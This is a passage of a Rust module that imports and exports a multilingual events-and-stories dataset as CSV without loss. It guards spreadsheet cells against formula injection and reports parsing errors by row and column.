//! The spreadsheet form of a dataset: one row per event, importable and exportable
//! without loss (`JSON → CSV → JSON` gives back the same dataset; a property test proves it).
//!
//! # Layout
//! Columns, in this order (the header row is required; columns may be reordered):
//!
//! | column | content |
//! |---|---|
//! | `id` | the event's slug |
//! | `title_en`, `title_zh`, `title_fr` | title per language |
//! | `summary_en`, `summary_zh`, `summary_fr` | summary per language |
//! | `category` | one of the category slugs (`conference`, `forum`, ...) |
//! | `start`, `end` | `YYYY-MM-DD`; `end` empty for one-day events |
//! | `precision` | `exact`, `approximate`, `month`, `year` |
//! | `date_note`, `note` | free text |
//! | `tags` | tags separated by `;` |
//! | `relations` | `kind:target` separated by `;`, e.g. `part_of:tbhc-2023` |
//! | `places`, `organisations`, `people`, `figures`, `sources` | records, one per line of the cell |
//!
//! A record is `key=value` pairs separated by ` | `, e.g.
//! `name.en=Wuxi | name.zh=无锡 | country=CN | lat=31.4912 | lon=120.3119 | precision=city`.
//! Inside a value, `\|` is a literal bar, `\n` a line break and `\\` a backslash.
//! Keys: places `name.* city.* region.* country lat lon precision`; organisations `name.* role`;
//! people `name.* title.* affiliation.* role`; figures `label.* value unit qualifier`;
//! sources `file title publisher published language url quote` (`*` is `en`, `zh` or `fr`).
//!
//! # Formulas
//! Spreadsheet programs run a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
//! return as a formula (`=HYPERLINK(…)`), so export puts a single quote before such a cell
//! (the OWASP rule for CSV injection), and import removes exactly that quote. A cell whose
//! text already starts with quotes followed by one of those characters gets one more, so
//! `JSON → CSV → JSON` stays lossless: `=1+1` is written `'=1+1`, `'=1+1` is written `''=1+1`.
//!
//! Plain Rust: errors name the row (as a spreadsheet numbers it, header = row 1), the
//! column and what was expected.

use std::collections::BTreeMap;
use std::fmt;

use chrono::NaiveDate;

use crate::story::{StepView, StepWindow, Story, StoryStep};
use crate::{
    Category, Dataset, DatePrecision, Event, FigureQualifier, KeyFigure, LocalizedText, OrganisationRole, PersonRole,
    Place, PlacePrecision, Relation, RelationKind, SourceCitation, SCHEMA_VERSION,
};

/// The columns, in export order.
pub const COLUMNS: [&str; 20] = [
    "id",
    "title_en",
    "title_zh",
    "title_fr",
    "summary_en",
    "summary_zh",
    "summary_fr",
    "category",
    "start",
    "end",
    "precision",
    "date_note",
    "places",
    "organisations",
    "people",
    "tags",
    "figures",
    "relations",
    "sources",
    "note",
];

/// A problem in a CSV file, located as a spreadsheet shows it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CsvError {
    /// 1-based row, the header being row 1; `None` for problems with the file as a whole.
    pub row: Option<u64>,
    pub column: Option<String>,
    /// What is wrong and what was expected, in English (the CLI prints it).
    pub message: String,
    /// The same problem as a value, so a page can say it in its reader's language.
    pub kind: CsvProblem,
}

/// Every problem the CSV and workbook readers report, as a value, so a page can say each one
/// in its reader's language; [`CsvError::message`] is its English text (`Display`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CsvProblem {
    /// The header row is not CSV the reader can parse (`detail`: the CSV parser's words).
    UnreadableHeader {
        detail: String,
    },
    /// A header that is none of the layout's columns (`expected`, separated by commas).
    UnknownColumn {
        expected: String,
    },
    DuplicateColumn,
    MissingColumn,
    /// A row with another number of cells than the header has.
    WrongCellCount {
        expected: u64,
        found: u64,
    },
    /// A row the CSV parser cannot read for another reason (`detail`: its words).
    UnreadableRow {
        detail: String,
    },
    NotACategory {
        value: String,
    },
    NotADate {
        value: String,
    },
    NotAPrecision {
        value: String,
    },
    /// An item of the `relations` cell that is not `kind:event-id`.
    NotARelation {
        value: String,
    },
    /// Line `record` (1-based) of a multi-record cell (places, organisations, people,
    /// figures, sources).
    Record {
        record: usize,
        problem: RecordProblem,
    },
    /// A stories row without the story's id.
    EmptyStoryId,
    /// A story id seen on earlier rows, with another story in between.
    StoryNotConsecutive {
        id: String,
    },
    /// A story's title or summary on a later row that is not the first row's.
    DiffersFromFirstRow,
    /// A step number that is not the next one.
    NotTheNextStep {
        value: String,
        expected: usize,
    },
    /// View cells that are not three numbers.
    NotAView {
        lat: String,
        lon: String,
        zoom: String,
    },
    /// A workbook cell right of the header's last named column.
    ValueWithoutHeader,
}

/// What is wrong with one `key=value | key=value` record of a multi-record cell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum RecordProblem {
    /// A part between bars without `=`.
    NotKeyValue {
        part: String,
    },
    DuplicateKey {
        key: String,
    },
    /// A key the column's records do not have (`expected`: those they have, comma-separated).
    UnknownKey {
        key: String,
        expected: String,
    },
    UnknownEscape {
        escape: char,
    },
    LoneBackslash,
    NotANumber {
        key: String,
        value: String,
    },
    NotAPlacePrecision {
        value: String,
    },
    NotAQualifier {
        value: String,
    },
    /// A source's `published` that is not a day.
    NotADate {
        key: String,
        value: String,
    },
}

impl fmt::Display for CsvProblem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CsvProblem::UnreadableHeader { detail } => write!(f, "cannot read the header row: {detail}"),
            CsvProblem::UnknownColumn { expected } => write!(f, "unknown column; expected one of: {expected}"),
            CsvProblem::DuplicateColumn => write!(f, "column appears twice"),
            CsvProblem::MissingColumn => write!(f, "required column is missing"),
            CsvProblem::WrongCellCount { expected, found } => write!(
                f,
                "the row has {found} cells; expected {expected}, one per column of the header row"
            ),
            CsvProblem::UnreadableRow { detail } => write!(f, "cannot read the row: {detail}"),
            CsvProblem::NotACategory { value } => {
                let expected: Vec<&str> = Category::ALL.iter().map(|category| category.slug()).collect();
                write!(f, "{value:?} is not a category; expected one of: {}", expected.join(", "))
            }
            CsvProblem::NotADate { value } => write!(f, "{value:?} is not a date; expected YYYY-MM-DD"),
            CsvProblem::NotAPrecision { value } => write!(
                f,
                "{value:?} is not a precision; expected exact, approximate, month or year"
            ),
            CsvProblem::NotARelation { value } => write!(
                f,
                "{value:?} is not a relation; expected kind:event-id with kind part_of, follow_up or related"
            ),
            CsvProblem::Record { record, problem } => write!(f, "record {record}: {problem}"),
            CsvProblem::EmptyStoryId => write!(f, "is empty; expected the story's id"),
            CsvProblem::StoryNotConsecutive { id } => write!(
                f,
                "{id:?} appeared on earlier rows; keep a story's steps on consecutive rows"
            ),
            CsvProblem::DiffersFromFirstRow => {
                write!(f, "differs from the story's first row; leave it empty or repeat it")
            }
            CsvProblem::NotTheNextStep { value, expected } => {
                write!(f, "{value:?} is not the next step; expected {expected}")
            }
            CsvProblem::NotAView { lat, lon, zoom } => write!(
                f,
                "{lat:?}, {lon:?}, {zoom:?} is not a view; expected three numbers (view_lat, view_lon, view_zoom) or none"
            ),
            CsvProblem::ValueWithoutHeader => write!(
                f,
                "a value in a column without a header; expected every value under a named column"
            ),
        }
    }
}

impl fmt::Display for RecordProblem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RecordProblem::NotKeyValue { part } => write!(f, "{part:?} is not key=value"),
            RecordProblem::DuplicateKey { key } => write!(f, "key {key:?} appears twice"),
            RecordProblem::UnknownKey { key, expected } => {
                write!(f, "unknown key {key:?}; expected one of: {expected}")
            }
            RecordProblem::UnknownEscape { escape } => {
                write!(f, "unknown escape \\{escape}; expected \\|, \\n, \\s or \\\\")
            }
            RecordProblem::LoneBackslash => {
                write!(f, "a value ends with a lone backslash; write \\\\ for a backslash")
            }
            RecordProblem::NotANumber { key, value } => write!(f, "{key}: {value:?} is not a number"),
            RecordProblem::NotAPlacePrecision { value } => {
                write!(f, "precision: {value:?} is not venue, city, region or country")
            }
            RecordProblem::NotAQualifier { value } => {
                write!(f, "qualifier: {value:?} is not exact, more_than or about")
            }
            RecordProblem::NotADate { key, value } => write!(f, "{key}: {value:?} is not a date; expected YYYY-MM-DD"),
        }
    }
}

impl CsvError {
    /// A problem at `row` and `column`, with its English text.
    pub fn new(row: Option<u64>, column: Option<String>, kind: CsvProblem) -> CsvError {
        CsvError {
            row,
            column,
            message: kind.to_string(),
            kind,
        }
    }
}

impl fmt::Display for CsvError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match (&self.row, &self.column) {
            (Some(row), Some(column)) => write!(f, "row {row}, column {column}: {}", self.message),
            (Some(row), None) => write!(f, "row {row}: {}", self.message),
            (None, Some(column)) => write!(f, "column {column}: {}", self.message),
            (None, None) => write!(f, "{}", self.message),
        }
    }
}

/// What a spreadsheet program reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` is written with a guarding quote: it starts (after any quotes of its own)
/// with a character that starts a formula.
fn needs_guard(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// The cell as exported: a single quote before text a spreadsheet would run as a formula.
pub fn guard_formula(cell: String) -> String {
    if needs_guard(&cell) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// The cell as imported: the guarding quote [`guard_formula`] added, removed.
pub fn unguard_formula(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => cell,
    }
}

/// The spreadsheet row that holds `events[index]` in an exported or imported file.
pub fn row_of_event(index: usize) -> u64 {
    index as u64 + 2
}

/// Writes every event as one row, in dataset order.
pub fn export_csv(dataset: &Dataset) -> String {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    // Writing to a Vec cannot fail; the results are checked anyway so no data is dropped silently.
    let mut write = |fields: Vec<String>| writer.write_record(&fields).is_ok();
    let mut complete = write(COLUMNS.iter().map(|column| column.to_string()).collect());
    for event in &dataset.events {
        complete &= write(event_fields(event).into_iter().map(guard_formula).collect());
    }
    let bytes = writer.into_inner().unwrap_or_default();
    debug_assert!(complete);
    String::from_utf8(bytes).unwrap_or_default()
}

fn event_fields(event: &Event) -> Vec<String> {
    vec![
        event.id.clone(),
        event.title.en.clone(),
        event.title.zh.clone(),
        event.title.fr.clone(),
        event.summary.en.clone(),
        event.summary.zh.clone(),
        event.summary.fr.clone(),
        event.category.slug().to_owned(),
        event.start.to_string(),
        event.end.map(|end| end.to_string()).unwrap_or_default(),
        event.precision.slug().to_owned(),
        event.date_note.clone(),
        records(event.places.iter().map(place_record)),
        records(event.organisations.iter().map(|organisation| {
            let mut record = Record::default();
            record.put_text("name", &organisation.name);
            record.put("role", &organisation.role);
            record
        })),
        records(event.people.iter().map(|person| {
            let mut record = Record::default();
            record.put_text("name", &person.name);
            record.put_text("title", &person.title);
            record.put_text("affiliation", &person.affiliation);
            record.put("role", &person.role);
            record
        })),
        event.tags.join("; "),
        records(event.figures.iter().map(|figure| {
            let mut record = Record::default();
            record.put_text("label", &figure.label);
            record.put("value", &figure.value.to_string());
            record.put("unit", &figure.unit);
            if !figure.qualifier.is_exact() {
                record.put("qualifier", figure.qualifier.slug());
            }
            record
        })),
        event
            .relations
            .iter()
            .map(|relation| format!("{}:{}", relation.kind.slug(), relation.target))
            .collect::<Vec<_>>()
            .join("; "),
        records(event.sources.iter().map(source_record)),
        event.note.clone(),
    ]
}

fn place_record(place: &Place) -> Record {
    let mut record = Record::default();
    record.put_text("name", &place.name);
    record.put_text("city", &place.city);
    record.put_text("region", &place.region);
    record.put("country", &place.country);
    record.put("lat", &place.lat.to_string());
    record.put("lon", &place.lon.to_string());
    record.put("precision", place.precision.slug());
    record
}

fn source_record(source: &SourceCitation) -> Record {
    let mut record = Record::default();
    record.put("file", &source.file);
    record.put("title", &source.title);
    record.put("publisher", &source.publisher);
    if let Some(published) = source.published {
        record.put("published", &published.to_string());
    }
    record.put("language", &source.language);
    record.put("url", &source.url);
    record.put("quote", &source.quote);
    record
}

fn records(items: impl Iterator<Item = Record>) -> String {
    items.map(|record| record.to_string()).collect::<Vec<_>>().join("\n")
}

/// Reads a CSV file in the layout above. Returns every problem found, not only the first.
/// The result still has to pass `validate` (the CLI does both).
pub fn import_csv(text: &str) -> Result<Dataset, Vec<CsvError>> {
    let mut events = Vec::new();
    let required = ["id", "category", "start", "precision", "sources"];
    read_rows(text, &COLUMNS, &required, |cells, errors| {
        if let Some(event) = parse_event(cells, errors) {
            events.push(event);
        }
    })?;
    Ok(Dataset {
        schema_version: SCHEMA_VERSION,
        description: String::new(),
        events,
        stories: Vec::new(),
    })
}

/// Reads a CSV whose header row names some of `columns` (all of `required`), then hands each
/// data row to `row` with a sink for its errors. The header's problems stop the reading; the
/// rows' problems are all collected. Shared by the events' and the stories' layouts, so both
/// locate problems the same way (row as a spreadsheet numbers it, column by name).
fn read_rows(
    text: &str,
    columns: &[&'static str],
    required: &[&str],
    mut row: impl FnMut(&RowCells<'_>, &mut RowErrors<'_>),
) -> Result<(), Vec<CsvError>> {
    let mut reader = csv::ReaderBuilder::new()
        .flexible(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers = reader
        .headers()
        .map_err(|error| {
            vec![CsvError::new(
                None,
                None,
                CsvProblem::UnreadableHeader {
                    detail: error.to_string(),
                },
            )]
        })?
        .clone();
    let mut column_index: BTreeMap<&'static str, usize> = BTreeMap::new();
    let mut errors = Vec::new();
    for (index, header) in headers.iter().enumerate() {
        let name = header.trim();
        let Some(&known) = columns.iter().find(|column| **column == name) else {
            errors.push(CsvError::new(
                Some(1),
                Some(name.to_owned()),
                CsvProblem::UnknownColumn {
                    expected: columns.join(", "),
                },
            ));
            continue;
        };
        if column_index.insert(known, index).is_some() {
            errors.push(CsvError::new(
                Some(1),
                Some(name.to_owned()),
                CsvProblem::DuplicateColumn,
            ));
        }
    }
    for &required in required {
        if !column_index.contains_key(required) {
            errors.push(CsvError::new(
                Some(1),
                Some(required.to_owned()),
                CsvProblem::MissingColumn,
            ));
        }
    }
    if !errors.is_empty() {
        return Err(errors);
    }
    for (record_index, result) in reader.records().enumerate() {
        // The row as a spreadsheet numbers it: one per record, whatever line breaks its cells
        // hold (a record's text line is not its row: the places and sources cells span
        // several lines), the header being row 1.
        let row_number = record_index as u64 + 2;
        let record = match result {
            Ok(record) => record,
            Err(error) => {
                let kind = match error.kind() {
                    csv::ErrorKind::UnequalLengths { expected_len, len, .. } => CsvProblem::WrongCellCount {
                        expected: *expected_len,
                        found: *len,
                    },
                    _ => CsvProblem::UnreadableRow {
                        detail: error.to_string(),
                    },
                };
                errors.push(CsvError::new(Some(row_number), None, kind));
                continue;
            }
        };
        let cells = RowCells {
            record: &record,
            column_index: &column_index,
        };
        let mut row_errors = RowErrors {
            row: row_number,
            errors: &mut errors,
        };
        row(&cells, &mut row_errors);
    }
    if errors.is_empty() {
        Ok(())
    } else {
        Err(errors)
    }
}

/// One data row, read by column name.
struct RowCells<'a> {
    record: &'a csv::StringRecord,
    column_index: &'a BTreeMap<&'static str, usize>,
}

impl<'a> RowCells<'a> {
    /// The cell's text; `""` for a column the file does not have.
    fn get(&self, column: &str) -> &'a str {
        self.column_index
            .get(column)
            .and_then(|&index| self.record.get(index))
            .map_or("", unguard_formula)
    }
}

struct RowErrors<'a> {
    row: u64,
    errors: &'a mut Vec<CsvError>,
}

impl RowErrors<'_> {
    fn report(&mut self, column: &str, kind: CsvProblem) {
        self.errors
            .push(CsvError::new(Some(self.row), Some(column.to_owned()), kind));
    }
}

fn parse_event(cells: &RowCells<'_>, errors: &mut RowErrors<'_>) -> Option<Event> {
    let cell = |column: &str| cells.get(column);
    let before = errors.errors.len();
    let text = |prefix: &str| LocalizedText {
        en: cell(&format!("{prefix}_en")).to_owned(),
        zh: cell(&format!("{prefix}_zh")).to_owned(),
        fr: cell(&format!("{prefix}_fr")).to_owned(),
    };
    let category = Category::from_slug(cell("category").trim());
    if category.is_none() {
        errors.report(
            "category",
            CsvProblem::NotACategory {
                value: cell("category").to_owned(),
            },
        );
    }
    let start = parse_date(cell("start"), "start", errors);
    let end = match cell("end").trim() {
        "" => None,
        end => parse_date(end, "end", errors),
    };
    let precision = DatePrecision::from_slug(cell("precision").trim());
    if precision.is_none() {
        errors.report(
            "precision",
            CsvProblem::NotAPrecision {
                value: cell("precision").to_owned(),
            },
        );
    }
    let places = parse_records(cell("places"), "places", PLACE_KEYS, errors, parse_place);
    let organisations = parse_records(
        cell("organisations"),
        "organisations",
        ORGANISATION_KEYS,
        errors,
        |record| {
            Ok(OrganisationRole {
                name: record.text("name"),
                role: record.get("role"),
            })
        },
    );
    let people = parse_records(cell("people"), "people", PERSON_KEYS, errors, |record| {
        Ok(PersonRole {
            name: record.text("name"),
            title: record.text("title"),
            affiliation: record.text("affiliation"),
            role: record.get("role"),
        })
    });
    let figures = parse_records(cell("figures"), "figures", FIGURE_KEYS, errors, parse_figure);
    let sources = parse_records(cell("sources"), "sources", SOURCE_KEYS, errors, parse_source);
    let mut relations = Vec::new();
    for item in split_list(cell("relations")) {
        match item
            .split_once(':')
            .and_then(|(kind, target)| Some((RelationKind::from_slug(kind.trim())?, target.trim())))
        {
            Some((kind, target)) => relations.push(Relation {
                kind,
                target: target.to_owned(),
            }),
            None => errors.report("relations", CsvProblem::NotARelation { value: item.to_owned() }),
        }
    }
    if errors.errors.len() > before {
        return None;
    }
    Some(Event {
        id: cell("id").trim().to_owned(),
        title: text("title"),
        summary: text("summary"),
        category: category?,
        start: start?,
        end,
        precision: precision?,
        date_note: cell("date_note").to_owned(),
        places,
        organisations,
        people,
        tags: split_list(cell("tags")).map(str::to_owned).collect(),
        figures,
        relations,
        sources,
        note: cell("note").to_owned(),
    })
}

fn split_list(cell: &str) -> impl Iterator<Item = &str> {
    cell.split(';').map(str::trim).filter(|item| !item.is_empty())
}

fn parse_date(text: &str, column: &str, errors: &mut RowErrors<'_>) -> Option<NaiveDate> {
    let parsed = crate::parse_day(text.trim());
    if parsed.is_none() {
        errors.report(column, CsvProblem::NotADate { value: text.to_owned() });
    }
    parsed
}

// The keys each multi-record column may hold, as export writes them. Any other key is an error
// rather than ignored: a misspelt key would otherwise drop its value silently, and a record of
// only unknown keys would become an empty item that the next export cannot write.
const PLACE_KEYS: &[&str] = &[
    "name.en",
    "name.zh",
    "name.fr",
    "city.en",
    "city.zh",
    "city.fr",
    "region.en",
    "region.zh",
    "region.fr",
    "country",
    "lat",
    "lon",
    "precision",
];
const ORGANISATION_KEYS: &[&str] = &["name.en", "name.zh", "name.fr", "role"];
const PERSON_KEYS: &[&str] = &[
    "name.en",
    "name.zh",
    "name.fr",
    "title.en",
    "title.zh",
    "title.fr",
    "affiliation.en",
    "affiliation.zh",
    "affiliation.fr",
    "role",
];
const FIGURE_KEYS: &[&str] = &["label.en", "label.zh", "label.fr", "value", "unit", "qualifier"];
const SOURCE_KEYS: &[&str] = &["file", "title", "publisher", "published", "language", "url", "quote"];

fn parse_records<T>(
    cell: &str,
    column: &str,
    keys: &[&str],
    errors: &mut RowErrors<'_>,
    parse: impl Fn(&Record) -> Result<T, RecordProblem>,
) -> Vec<T> {
    let mut items = Vec::new();
    for (line_index, line) in cell.split('\n').map(|line| line.trim_end_matches('\r')).enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        // A record whose keys all have empty values (`|`, `title=`) is an empty line: export
        // writes nothing for it, so reading it as an empty item would not survive a round trip.
        let parsed = match Record::parse(line).and_then(|record| record.only_keys(keys)) {
            Ok(record) if record.fields.iter().all(|(_, value)| value.is_empty()) => continue,
            parsed => parsed.and_then(|record| parse(&record)),
        };
        match parsed {
            Ok(item) => items.push(item),
            Err(problem) => errors.report(
                column,
                CsvProblem::Record {
                    record: line_index + 1,
                    problem,
                },
            ),
        }
    }
    items
}

fn parse_place(record: &Record) -> Result<Place, RecordProblem> {
    let precision = record.get("precision");
    Ok(Place {
        name: record.text("name"),
        city: record.text("city"),
        region: record.text("region"),
        country: record.get("country"),
        lat: record.number("lat")?,
        lon: record.number("lon")?,
        precision: PlacePrecision::from_slug(&precision)
            .ok_or(RecordProblem::NotAPlacePrecision { value: precision })?,
    })
}

fn parse_figure(record: &Record) -> Result<KeyFigure, RecordProblem> {
    let qualifier = match record.get("qualifier").as_str() {
        "" => FigureQualifier::Exact,
        other => FigureQualifier::from_slug(other).ok_or_else(|| RecordProblem::NotAQualifier {
            value: other.to_owned(),
        })?,
    };
    Ok(KeyFigure {
        label: record.text("label"),
        value: record.number("value")?,
        unit: record.get("unit"),
        qualifier,
    })
}

fn parse_source(record: &Record) -> Result<SourceCitation, RecordProblem> {
    let published = match record.get("published").as_str() {
        "" => None,
        text => Some(crate::parse_day(text).ok_or_else(|| RecordProblem::NotADate {
            key: "published".into(),
            value: text.to_owned(),
        })?),
    };
    Ok(SourceCitation {
        file: record.get("file"),
        title: record.get("title"),
        publisher: record.get("publisher"),
        published,
        language: record.get("language"),
        url: record.get("url"),
        quote: record.get("quote"),
    })
}

/// One `key=value | key=value` record of a multi-record cell. Empty values are omitted
/// on export and read back as empty, which is what the model's defaults mean.
#[derive(Debug, Default)]
struct Record {
    fields: Vec<(String, String)>,
}

impl Record {
    fn put(&mut self, key: &str, value: &str) {
        if !value.is_empty() {
            self.fields.push((key.to_owned(), value.to_owned()));
        }
    }

    fn put_text(&mut self, key: &str, text: &LocalizedText) {
        self.put(&format!("{key}.en"), &text.en);
        self.put(&format!("{key}.zh"), &text.zh);
        self.put(&format!("{key}.fr"), &text.fr);
    }

    fn get(&self, key: &str) -> String {
        self.fields
            .iter()
            .find(|(name, _)| name == key)
            .map(|(_, value)| value.clone())
            .unwrap_or_default()
    }

    fn text(&self, key: &str) -> LocalizedText {
        LocalizedText {
            en: self.get(&format!("{key}.en")),
            zh: self.get(&format!("{key}.zh")),
            fr: self.get(&format!("{key}.fr")),
        }
    }

    fn number(&self, key: &str) -> Result<f64, RecordProblem> {
        let text = self.get(key);
        text.trim().parse::<f64>().map_err(|_| RecordProblem::NotANumber {
            key: key.to_owned(),
            value: text,
        })
    }

    /// The record itself when every key is one of `keys`; otherwise names the first other key.
    fn only_keys(self, keys: &[&str]) -> Result<Record, RecordProblem> {
        match self.fields.iter().find(|(key, _)| !keys.contains(&key.as_str())) {
            Some((key, _)) => Err(RecordProblem::UnknownKey {
                key: key.clone(),
                expected: keys.join(", "),
            }),
            None => Ok(self),
        }
    }

    fn parse(line: &str) -> Result<Record, RecordProblem> {
        let mut record = Record::default();
        for part in split_unescaped_bars(line) {
            let part = part.trim();
            if part.is_empty() {
                continue;
            }
            let Some((key, value)) = part.split_once('=') else {
                return Err(RecordProblem::NotKeyValue { part: part.to_owned() });
            };
            let key = key.trim();
            if record.fields.iter().any(|(name, _)| name == key) {
                return Err(RecordProblem::DuplicateKey { key: key.to_owned() });
            }
            record.fields.push((key.to_owned(), unescape(value.trim())?));
        }
        Ok(record)
    }
}

impl fmt::Display for Record {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let parts: Vec<String> = self
            .fields
            .iter()
            .map(|(key, value)| format!("{key}={}", escape(value)))
            .collect();
        write!(f, "{}", parts.join(" | "))
    }
}

/// Escapes what would break a record: bars, line breaks, backslashes, and spaces at the
/// ends (which the reader trims).
fn escape(value: &str) -> String {
    let mut escaped = String::with_capacity(value.len());
    let last = value.chars().count().saturating_sub(1);
    for (index, character) in value.chars().enumerate() {
        match character {
            '\\' => escaped.push_str("\\\\"),
            '|' => escaped.push_str("\\|"),
            '\n' => escaped.push_str("\\n"),
            '\r' => escaped.push_str("\\r"),
            '\t' => escaped.push_str("\\t"),
            ' ' if index == 0 || index == last => escaped.push_str("\\s"),
            other => escaped.push(other),
        }
    }
    escaped
}

fn unescape(value: &str) -> Result<String, RecordProblem> {
    let mut text = String::with_capacity(value.len());
    let mut characters = value.chars();
    while let Some(character) = characters.next() {
        if character != '\\' {
            text.push(character);
            continue;
        }
        match characters.next() {
            Some('\\') => text.push('\\'),
            Some('|') => text.push('|'),
            Some('n') => text.push('\n'),
            Some('r') => text.push('\r'),
            Some('t') => text.push('\t'),
            Some('s') => text.push(' '),
            Some(other) => return Err(RecordProblem::UnknownEscape { escape: other }),
            None => return Err(RecordProblem::LoneBackslash),
        }
    }
    Ok(text)
}

/// Splits on `|` not preceded by an escaping backslash.
fn split_unescaped_bars(line: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut start = 0;
    let mut escaped = false;
    for (index, character) in line.char_indices() {
        match character {
            '\\' if !escaped => escaped = true,
            '|' if !escaped => {
                parts.push(&line[start..index]);
                start = index + 1;
            }
            _ => escaped = false,
        }
    }
    parts.push(&line[start..]);
    parts
}

/// The columns of the stories file, in export order: one row per step.
///
/// `story` is the story's id. Its `title_*` and `summary_*` are read from its first row; later
/// rows leave them empty or repeat them. `step` numbers the steps 1, 2, 3… in order; `events`
/// are event ids separated by `;`; `filter` is a filter in the app's link format
/// (`cat=forum&from=2023-05-01`), optional, and the file may leave out the column; `quotes` one passage per line of the cell; `window_start`
/// and `window_end` are `YYYY-MM-DD` (both or neither); `view_lat`, `view_lon` and `view_zoom`
/// are numbers (all three or none).
pub const STORY_COLUMNS: [&str; 19] = [
    "story",
    "title_en",
    "title_zh",
    "title_fr",
    "summary_en",
    "summary_zh",
    "summary_fr",
    "step",
    "narrative_en",
    "narrative_zh",
    "narrative_fr",
    "events",
    "filter",
    "quotes",
    "window_start",
    "window_end",
    "view_lat",
    "view_lon",
    "view_zoom",
];

/// Writes every step of every story as one row, stories in dataset order.
pub fn export_stories_csv(stories: &[Story]) -> String {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    let mut write = |fields: Vec<String>| writer.write_record(&fields).is_ok();
    let mut complete = write(STORY_COLUMNS.map(str::to_owned).to_vec());
    for story in stories {
        for (index, step) in story.steps.iter().enumerate() {
            let first = index == 0;
            let text = |text: &LocalizedText| {
                if first {
                    [text.en.clone(), text.zh.clone(), text.fr.clone()]
                } else {
                    Default::default()
                }
            };
            let [title_en, title_zh, title_fr] = text(&story.title);
            let [summary_en, summary_zh, summary_fr] = text(&story.summary);
            let (window_start, window_end) = step.window.map_or((String::new(), String::new()), |window| {
                (window.start.to_string(), window.end.to_string())
            });
            let (view_lat, view_lon, view_zoom) = step.view.map_or(Default::default(), |view| {
                (view.lat.to_string(), view.lon.to_string(), view.zoom.to_string())
            });
            let fields = vec![
                story.id.clone(),
                title_en,
                title_zh,
                title_fr,
                summary_en,
                summary_zh,
                summary_fr,
                (index + 1).to_string(),
                step.narrative.en.clone(),
                step.narrative.zh.clone(),
                step.narrative.fr.clone(),
                step.events.join("; "),
                step.filter.clone().unwrap_or_default(),
                step.quotes.join("\n"),
                window_start,
                window_end,
                view_lat,
                view_lon,
                view_zoom,
            ];
            complete &= write(fields.into_iter().map(guard_formula).collect());
        }
    }
    let bytes = writer.into_inner().unwrap_or_default();
    debug_assert!(complete);
    String::from_utf8(bytes).unwrap_or_default()
}

/// Reads a stories file in the layout of [`STORY_COLUMNS`]. Every problem is reported with
/// its row and column; references to events are checked afterwards by `validate`.
pub fn import_stories_csv(text: &str) -> Result<Vec<Story>, Vec<CsvError>> {
    let mut stories: Vec<Story> = Vec::new();
    read_rows(text, &STORY_COLUMNS, &["story", "step", "events"], |cells, errors| {
        parse_story_row(cells, &mut stories, errors)
    })?;
    Ok(stories)
}

/// Adds one row's step to `stories`: to the last story when the id is the same, else to a new one.
fn parse_story_row(cells: &RowCells<'_>, stories: &mut Vec<Story>, errors: &mut RowErrors<'_>) {
    let cell = |column: &str| cells.get(column);
    let text = |prefix: &str| LocalizedText {
        en: cell(&format!("{prefix}_en")).to_owned(),
        zh: cell(&format!("{prefix}_zh")).to_owned(),
        fr: cell(&format!("{prefix}_fr")).to_owned(),
    };
    let id = cell("story").trim();
    if id.is_empty() {
        errors.report("story", CsvProblem::EmptyStoryId);
        return;
    }
    let (title, summary) = (text("title"), text("summary"));
    let continues = stories.last().is_some_and(|story| story.id == id);
    if !continues {
        if stories.iter().any(|story| story.id == id) {
            errors.report("story", CsvProblem::StoryNotConsecutive { id: id.to_owned() });
            return;
        }
        stories.push(Story {
            id: id.to_owned(),
            title: title.clone(),
            summary: summary.clone(),
            steps: Vec::new(),
        });
    }
    let Some(story) = stories.last_mut() else {
        return;
    };
    if continues {
        for (prefix, given, first) in [("title", &title, &story.title), ("summary", &summary, &story.summary)] {
            if !given.is_empty() && given != first {
                errors.report(&format!("{prefix}_*"), CsvProblem::DiffersFromFirstRow);
            }
        }
    }
    let expected_step = story.steps.len() + 1;
    if cell("step").trim() != expected_step.to_string() {
        errors.report(
            "step",
            CsvProblem::NotTheNextStep {
                value: cell("step").to_owned(),
                expected: expected_step,
            },
        );
    }
    let number = |column: &str| -> Option<f64> {
        let value = cell(column).trim();
        (!value.is_empty()).then(|| value.parse::<f64>().ok()).flatten()
    };
    let window = match (cell("window_start").trim(), cell("window_end").trim()) {
        ("", "") => None,
        (start, end) => {
            let start = parse_date(start, "window_start", errors);
            let end = parse_date(end, "window_end", errors);
            start.zip(end).map(|(start, end)| StepWindow { start, end })
        }
    };
    let view_cells = ["view_lat", "view_lon", "view_zoom"].map(|column| cell(column).trim());
    let view = if view_cells.iter().all(|value| value.is_empty()) {
        None
    } else {
        match (number("view_lat"), number("view_lon"), number("view_zoom")) {
            (Some(lat), Some(lon), Some(zoom)) => Some(StepView { lat, lon, zoom }),
            _ => {
                errors.report(
                    "view_lat",
                    CsvProblem::NotAView {
                        lat: view_cells[0].to_owned(),
                        lon: view_cells[1].to_owned(),
                        zoom: view_cells[2].to_owned(),
                    },
                );
                None
            }
        }
    };
    story.steps.push(StoryStep {
        narrative: text("narrative"),
        events: split_list(cell("events")).map(str::to_owned).collect(),
        filter: Some(cell("filter").trim())
            .filter(|filter| !filter.is_empty())
            .map(str::to_owned),
        quotes: cell("quotes")
            .split('\n')
            .map(|quote| quote.trim_end_matches('\r'))
            .filter(|quote| !quote.trim().is_empty())
            .map(str::to_owned)
